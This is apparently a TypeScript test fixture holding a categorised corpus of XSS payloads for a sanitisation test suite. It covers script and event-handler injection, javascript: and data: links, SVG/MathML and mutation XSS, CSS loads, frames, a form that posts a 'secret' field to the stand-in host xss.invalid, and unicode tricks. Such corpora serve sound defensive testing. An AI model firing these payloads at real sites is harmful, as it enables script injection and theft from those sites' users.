/**
 * Hostile text for the tests that check user text can never run, load or navigate anything:
 * XSS payloads by category, each named. A payload that ran would set `window.__xss` (or
 * `top.__xss` from a frame) or fetch from the reserved host `xss.invalid`, so either is detectable.
 */

/** The kinds of attack the corpus covers. */
export const xssCategories = [
  'script',
  'event-handler',
  'url-scheme',
  'svg',
  'mathml',
  'mutation',
  'css',
  'embedding',
  'form',
  'link-trick',
  'markdown',
  'unicode',
  'long'
] as const
export type XssCategory = (typeof xssCategories)[number]

/** One payload: what it tries, a short unique name to report it by, and the text itself. */
export interface XssPayload {
  category: XssCategory
  name: string
  text: string
}

/** What a payload runs when it executes in the page. */
const run = 'window.__xss=1'
/** What a payload runs when it executes in a frame. */
const runTop = 'top.__xss=1'
/** The reserved host every loading payload points at (RFC 2606: never resolves). */
const host = 'https://xss.invalid'

/** `<script>top.__xss=1</script>`, base64. */
const scriptBase64 = 'PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg=='
/** `<svg xmlns="http://www.w3.org/2000/svg" onload="top.__xss=1"/>`, base64. */
const svgBase64 =
  'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLl9feHNzPTEiLz4='

const entries: readonly (readonly [XssCategory, string, string])[] = [
  // Script elements.
  ['script', 'plain script', `<script>${run}</script>`],
  ['script', 'mixed-case script', `<ScRiPt>${run}</sCrIpT>`],
  ['script', 'split script', `<scr<script>ipt>${run}</scr</script>ipt>`],
  ['script', 'script with src', `<script src="${host}/s.js"></script>`],
  ['script', 'script with data src', `<script src="data:text/javascript,${run}"></script>`],
  ['script', 'self-closing script', `<script/src="${host}/self.js"/>`],
  ['script', 'attribute breakout', `"><script>${run}</script>`],
  ['script', 'textarea breakout', `</textarea><script>${run}</script>`],
  ['script', 'title breakout', `</title><script>${run}</script>`],
  ['script', 'unclosed script', `<script>${run}`],
  ['script', 'module script', `<script type="module">import '${host}/m.js'</script>`],

  // Event handlers.
  ['event-handler', 'img onerror', `<img src=x onerror="${run}">`],
  ['event-handler', 'img onerror fetch', `<img src=x onerror="fetch('${host}/img')">`],
  ['event-handler', 'img slashes', `<img/src=x/onerror=${run}>`],
  ['event-handler', 'img entity handler', '<img src=x onerror="&#119;indow.__xss=1">'],
  ['event-handler', 'svg onload', `<svg onload="${run}">`],
  ['event-handler', 'body onload', `<body onload="${run}">`],
  ['event-handler', 'details ontoggle', `<details open ontoggle="${run}">x</details>`],
  ['event-handler', 'video onerror', `<video src=x onerror="${run}"></video>`],
  ['event-handler', 'video source onerror', `<video><source onerror="${run}"></video>`],
  ['event-handler', 'audio onerror', `<audio src=x onerror="${run}"></audio>`],
  ['event-handler', 'input autofocus onfocus', `<input autofocus onfocus="${run}">`],
  ['event-handler', 'select autofocus onfocus', `<select autofocus onfocus="${run}"></select>`],
  ['event-handler', 'marquee onstart', `<marquee onstart="${run}">x</marquee>`],
  [
    'event-handler',
    'full-page onmouseover',
    `<div onmouseover="${run}" style="position:fixed;inset:0">x</div>`
  ],
  ['event-handler', 'iframe onload', `<iframe onload="${run}"></iframe>`],
  ['event-handler', 'style onload', `<style onload="${run}"></style>`],
  ['event-handler', 'anchor onclick', `<a onclick="${run}">click</a>`],
  ['event-handler', 'frameset onload', `<frameset onload="${run}">`],

  // Dangerous URL schemes in Markdown and HTML links.
  ['url-scheme', 'markdown javascript link', `[x](javascript:${run})`],
  ['url-scheme', 'mixed-case javascript link', `[x](JaVaScRiPt:${run})`],
  ['url-scheme', 'angle-bracket javascript link', `[x](<javascript:${run}>)`],
  ['url-scheme', 'entity colon link', `[x](javascript&#58;${run})`],
  ['url-scheme', 'named entity colon link', `[x](javascript&colon;${run})`],
  [
    'url-scheme',
    'decimal entities link',
    `[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${run})`
  ],
  ['url-scheme', 'hex entity link', `[x](&#x6A;avascript:${run})`],
  ['url-scheme', 'tab entity link', `[x](jav&#x09;ascript:${run})`],
  ['url-scheme', 'control-char prefixed link', `[x](\u0001javascript:${run})`],
  ['url-scheme', 'vertical-tab prefixed link', `[x](\u000bjavascript:${run})`],
  ['url-scheme', 'nul inside scheme link', `[x](java\u0000script:${run})`],
  ['url-scheme', 'newline comment link', `[x](javascript://%0A${run})`],
  ['url-scheme', 'data html link', `[x](data:text/html;base64,${scriptBase64})`],
  ['url-scheme', 'data svg link', `[x](data:image/svg+xml;base64,${svgBase64})`],
  ['url-scheme', 'vbscript link', '[x](vbscript:msgbox(1))'],
  ['url-scheme', 'blob link', `[x](blob:${host}/0b8c1e4e-0000-4000-8000-000000000000)`],
  ['url-scheme', 'javascript autolink', `<javascript:${run}>`],
  ['url-scheme', 'upper-case javascript autolink', `<JAVASCRIPT:${run}>`],
  ['url-scheme', 'reference-style javascript link', `[x][ref]\n\n[ref]: javascript:${run}`],
  [
    'url-scheme',
    'reference-style link with title',
    `[x][ref]\n\n[ref]: javascript:${run} "Report"`
  ],
  ['url-scheme', 'javascript image', `![x](javascript:${run})`],
  ['url-scheme', 'remote image', `![chart](${host}/pixel.png)`],
  ['url-scheme', 'image title breakout', `![x](x "onerror=${run}")`],
  ['url-scheme', 'raw anchor javascript', `<a href="javascript:${run}">x</a>`],
  ['url-scheme', 'raw anchor tab entity', `<a href="jav&#x09;ascript:${run}">x</a>`],
  ['url-scheme', 'raw anchor control prefix', `<a href=" &#14;  javascript:${run}">x</a>`],
  ['url-scheme', 'raw img javascript src', `<img src="javascript:${run}">`],

  // SVG.
  ['svg', 'svg script', `<svg><script>${run}</script></svg>`],
  ['svg', 'svg script href', `<svg><script href="${host}/svg.js"/></svg>`],
  [
    'svg',
    'svg xlink anchor',
    `<svg><a xlink:href="javascript:${run}"><text x="20" y="20">x</text></a></svg>`
  ],
  [
    'svg',
    'svg animate onbegin',
    `<svg><animate onbegin="${run}" attributeName="x" dur="1s"/></svg>`
  ],
  [
    'svg',
    'svg animate href',
    `<svg><a><animate attributeName="href" values="javascript:${run}"/><text x="20" y="20">x</text></a></svg>`
  ],
  ['svg', 'svg set handler', `<svg><set attributeName="onmouseover" to="${run}"/></svg>`],
  [
    'svg',
    'svg foreignObject',
    `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`
  ],
  ['svg', 'svg use data', `<svg><use href="data:image/svg+xml;base64,${svgBase64}#x"/></svg>`],
  ['svg', 'svg image', `<svg><image href="${host}/svg.png"/></svg>`],
  ['svg', 'svg style import', `<svg><style>@import url(${host}/svg.css);</style></svg>`],

  // MathML.
  ['mathml', 'mglyph style', `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`],
  [
    'mathml',
    'mglyph nested svg',
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>"></style></h1>`
  ],
  ['mathml', 'math href', `<math href="javascript:${run}">x</math>`],
  [
    'mathml',
    'maction xlink',
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`
  ],
  [
    'mathml',
    'annotation-xml html',
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${run}"></annotation-xml></math>`
  ],

  // Mutation XSS: markup that changes meaning when serialized and parsed again.
  ['mutation', 'noscript title', `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  [
    'mutation',
    'form math mglyph',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`
  ],
  [
    'mutation',
    'nested template',
    `<template><template><img src=x onerror=${run}></template></template>`
  ],
  [
    'mutation',
    'svg closing p style',
    `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`
  ],
  ['mutation', 'svg p style', `<svg><p><style><a id="</style><img src=1 onerror=${run}>">`],
  ['mutation', 'textarea title', `<textarea><p title="</textarea><img src=x onerror=${run}>">`],
  ['mutation', 'xmp title', `<xmp><p title="</xmp><img src=x onerror=${run}>">`],
  ['mutation', 'iframe title', `<iframe><p title="</iframe><img src=x onerror=${run}>">`],
  ['mutation', 'noembed title', `<noembed><p title="</noembed><img src=x onerror=${run}>">`],
  ['mutation', 'comment breakout', `<!--><img src=x onerror=${run}>-->`],
  ['mutation', 'cdata breakout', `<![CDATA[><img src=x onerror=${run}>]]>`],
  [
    'mutation',
    'select template comment',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`
  ],
  [
    'mutation',
    'anchor id breakout',
    `<a href="${host}/" id="</a><img src=x onerror=${run}>">x</a>`
  ],

  // CSS that loads, overlays or runs.
  ['css', 'style import', `<style>@import url(${host}/import.css);</style>`],
  ['css', 'style background', `<style>body{background:url(${host}/bg.png)}</style>`],
  [
    'css',
    'style font-face',
    `<style>@font-face{font-family:x;src:url(${host}/f.woff)}body{font-family:x}</style>`
  ],
  ['css', 'style hides page', '<style>*{display:none!important}</style>'],
  ['css', 'inline background url', `<div style="background:url(${host}/inline.png)">x</div>`],
  ['css', 'inline expression', `<div style="width:expression(${run})">x</div>`],
  [
    'css',
    'fixed overlay',
    '<div style="position:fixed;inset:0;z-index:9999;background:white">Session suspended. Sign in again.</div>'
  ],
  [
    'css',
    'custom property url',
    `<div style="--x:url(${host}/var.png);background:var(--x)">x</div>`
  ],
  ['css', 'behavior url', `<p style="behavior:url(${host}/x.htc)">x</p>`],
  ['css', 'link stylesheet', `<link rel=stylesheet href="${host}/l.css">`],

  // Frames, objects and page-level elements.
  ['embedding', 'iframe javascript', `<iframe src="javascript:${runTop}"></iframe>`],
  ['embedding', 'iframe srcdoc', `<iframe srcdoc="<script>${runTop}</script>"></iframe>`],
  [
    'embedding',
    'iframe srcdoc entities',
    `<iframe srcdoc="&lt;img src=x onerror=${runTop}&gt;"></iframe>`
  ],
  ['embedding', 'iframe remote', `<iframe src="${host}/frame"></iframe>`],
  ['embedding', 'object javascript', `<object data="javascript:${runTop}"></object>`],
  [
    'embedding',
    'object data html',
    `<object data="data:text/html;base64,${scriptBase64}"></object>`
  ],
  ['embedding', 'embed data html', `<embed src="data:text/html;base64,${scriptBase64}">`],
  ['embedding', 'embed remote', `<embed src="${host}/e.swf">`],
  ['embedding', 'base href', `<base href="${host}/">`],
  ['embedding', 'meta refresh', `<meta http-equiv="refresh" content="0;url=${host}/refresh">`],
  [
    'embedding',
    'meta refresh javascript',
    `<meta http-equiv="refresh" content="0;url=javascript:${runTop}">`
  ],
  ['embedding', 'portal', `<portal src="${host}/portal"></portal>`],

  // Forms.
  [
    'form',
    'form javascript action',
    `<form action="javascript:${run}"><button>Submit</button></form>`
  ],
  ['form', 'button formaction', `<form><button formaction="javascript:${run}">Go</button></form>`],
  [
    'form',
    'form remote action',
    `<form action="${host}/f"><input name=q value="secret"><input type=submit></form>`
  ],
  ['form', 'input image', `<input type=image src=x onerror="${run}">`],
  ['form', 'isindex', `<isindex action="javascript:${run}" type=image>`],

  // Links that mislead or leave the app.
  ['link-trick', 'misleading link text', `[https://www.unodc.org/](${host}/phish)`],
  ['link-trick', 'slash-backslash https', `[x](https:/\\xss.invalid/)`],
  ['link-trick', 'backslashes https', `[x](https:\\\\xss.invalid/)`],
  ['link-trick', 'protocol-relative link', '[x](//xss.invalid/)'],
  ['link-trick', 'raw anchor target blank', `<a href="${host}/" target=_blank>x</a>`],
  ['link-trick', 'http link', '[x](http://xss.invalid/)'],
  ['link-trick', 'file link', '[x](file:///etc/passwd)'],
  ['link-trick', 'mailto link', '[x](mailto:someone@xss.invalid)'],
  ['link-trick', 'credentials link', '[x](https://user:pw@xss.invalid/)'],
  ['link-trick', 'bare link with quote', `${host}/"onmouseover="${run}`],
  ['link-trick', 'link title breakout', `[x](${host}/ "a\\" onmouseover=\\"${run}")`],
  ['link-trick', 'in-document link', '[para. 14](#para-14)'],

  // Markdown and template tricks.
  ['markdown', 'html block', `<div>\n<img src=x onerror=${run}>\n</div>`],
  ['markdown', 'fenced html', `\`\`\`html\n<script>${run}</script>\n\`\`\``],
  ['markdown', 'front matter breaker', `---\ntitle: "x"\n---\n<script>${run}</script>`],
  ['markdown', 'setext heading', `<img src=x onerror=${run}>\n===`],
  ['markdown', 'angular constructor', `{{constructor.constructor('${run}')()}}`],
  ['markdown', 'template literal', `\${${run}}`],
  ['markdown', 'erb tag', `<%= ${run} %>`],
  ['markdown', 'table cell html', `| a | <img src=x onerror=${run}> |\n|---|---|\n| b | c |`],
  ['markdown', 'blockquote script', `> <script>${run}</script>`],
  ['markdown', 'list item html', `- <svg onload=${run}>\n  - <img src=x onerror=${run}>`],
  ['markdown', 'lone definition', `[ref]: javascript:${run}`],
  ['markdown', 'html comment', `<!-- <script>${run}</script> -->`],
  ['markdown', 'code span breakout', `\`\` \` \`\`<img src=x onerror=${run}>`],
  ['markdown', 'processing instruction', `<?xml-stylesheet href="${host}/x.xsl"?>`],

  // Unicode.
  ['unicode', 'rtl override', `\u202Egnp.exe\u202D <img src=x onerror=${run}>`],
  ['unicode', 'zero-width in scheme', `[x](java\u200Bscript:${run})`],
  ['unicode', 'zero-width in tag', `<scr\u200Bipt>${run}</scr\u200Bipt>`],
  ['unicode', 'arabic with html', `ملاحظة <img src=x onerror=${run}> البرازيل`],
  ['unicode', 'emoji with svg', `🇨🇦🤝📌 <svg onload=${run}>`],
  ['unicode', 'full-width brackets', `＜script＞${run}＜/script＞`],
  ['unicode', 'cyrillic https', `[x](httpѕ://xss.invalid/)`],
  ['unicode', 'line separator', `<img src=x\u2028onerror=${run}>`],
  ['unicode', 'combining marks', `Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇ <svg onload=${run}>`],

  // Very long text.
  ['long', 'script after 20k letters', `${'A'.repeat(20_000)}<script>${run}</script>`],
  ['long', 'repeated img', `<img src=x onerror=${run}>`.repeat(500)],
  ['long', 'many open brackets', '[x]('.repeat(2_000)],
  ['long', 'many angle brackets', '<'.repeat(10_000)],
  ['long', 'deep blockquote', `${'> '.repeat(500)}<img src=x onerror=${run}>`],
  ['long', 'long word', `${'x'.repeat(20_000)}${host}/long`]
]

/** Every payload, in the order above. */
export const xssPayloads: readonly XssPayload[] = entries.map(([category, name, text]) => ({
  category,
  name,
  text
}))

/**
 * A few of the nastiest, short enough to type into every field: each would run, load or
 * navigate if any part of the app rendered it as markup.
 */
export const typedPayloadNames = [
  'img onerror',
  'plain script',
  'svg foreignObject',
  'noscript title',
  'form math mglyph',
  'markdown javascript link',
  'iframe srcdoc',
  'style import',
  'rtl override',
  'angular constructor'
] as const

/** The payloads named in {@link typedPayloadNames}. */
export const typedPayloads: readonly XssPayload[] = typedPayloadNames.map((name) => {
  const payload = xssPayloads.find((candidate) => candidate.name === name)
  if (!payload) throw new Error(`No payload named "${name}".`)
  return payload
})

/** The separators tags are split on: the comma and its Arabic, full-width and ideographic forms. */
const tagSeparators = /[,\u060C\uFF0C\u3001]/gu

/**
 * `text` cut to at most `max` UTF-16 code units without splitting a surrogate pair, and never
 * blank, so that a payload fits a field with a length limit (a title, a label, a counterpart).
 */
export function fitPayload(text: string, max: number): string {
  let cut = ''
  for (const character of text) {
    if (cut.length + character.length > max) break
    cut += character
  }
  return cut.trim() === '' ? 'x' : cut
}

/**
 * A payload as a tag can hold it: commas (which would split it) and runs of whitespace made one
 * space, at most 64 characters, never blank.
 */
export function payloadTag(text: string): string {
  const spaced = text.replace(tagSeparators, ' ').replace(/\s+/gu, ' ').trim().normalize('NFC')
  const tag = Array.from(spaced).slice(0, 64).join('').trim()
  return tag === '' ? 'x' : tag
}
